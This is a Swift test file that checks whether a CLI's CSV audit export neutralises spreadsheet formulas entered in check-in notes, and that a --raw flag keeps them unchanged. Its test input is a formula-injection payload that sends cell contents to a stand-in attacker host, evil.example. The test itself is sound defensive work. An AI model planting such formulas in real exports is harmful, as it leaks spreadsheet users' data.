import Foundation
import Testing

/// `peili export audit` through the real binary: a check-in note that a
/// spreadsheet would run as a formula comes out neutralised, and exactly with --raw.
@Suite struct SpreadsheetSafetyTests {
  @Test func aFormulaInACheckInNoteIsNeutralisedInTheAuditExport() throws {
    let cli = try CLIRunner()
    #expect(try cli.run(["init", "--workspace", "w.db"]).status == 0)
    let okrs = CLIRunner.examples.appendingPathComponent("okrs.yaml").path
    #expect(try cli.run(["--workspace", "w.db", "import", "okrs", okrs]).status == 0)
    let note = #"=HYPERLINK("http://evil.example/?leak="&A1,"Details")"#
    let checkIn = try cli.run(["--workspace", "w.db", "checkin", "A1", "--progress", "40", "--note", note])
    #expect(checkIn.status == 0, "\(checkIn.stderr)")

    let safe = try cli.run(["--workspace", "w.db", "export", "audit", "--format", "csv"])
    #expect(safe.status == 0, "\(safe.stderr)")
    #expect(
      safe.stdout.contains(#","'=HYPERLINK(""http://evil.example/?leak=""&A1,""Details"")""#),
      "\(safe.stdout)")
    #expect(!safe.stdout.contains(#","=HYPERLINK"#))

    let raw = try cli.run(["--workspace", "w.db", "export", "audit", "--format", "csv", "--raw"])
    #expect(
      raw.stdout.contains(#","=HYPERLINK(""http://evil.example/?leak=""&A1,""Details"")""#), "\(raw.stdout)")

    let help = try cli.run(["export", "audit", "--help"])
    #expect(help.stdout.contains("--raw") && help.stdout.contains("leading '"))
  }
}
